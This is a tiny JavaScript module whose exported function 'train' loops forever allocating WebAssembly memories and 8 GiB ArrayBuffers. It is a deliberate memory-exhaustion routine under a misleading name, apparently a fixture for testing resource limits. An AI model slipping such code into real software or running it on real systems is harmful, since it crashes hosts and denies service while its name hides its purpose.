export async function train() {
  const kept = []
  for (;;) kept.push(new WebAssembly.Memory({ initial: 0, maximum: 65536 }), new ArrayBuffer(2 ** 33))
}
